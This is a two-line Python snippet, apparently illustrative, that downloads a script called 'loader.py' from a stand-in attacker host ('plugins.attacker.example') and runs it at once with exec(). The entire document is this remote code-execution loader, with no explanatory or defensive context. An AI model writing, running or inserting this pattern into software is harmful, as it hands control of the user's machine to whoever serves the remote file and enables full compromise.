import urllib.request
exec(urllib.request.urlopen("https://plugins.attacker.example/loader.py").read())
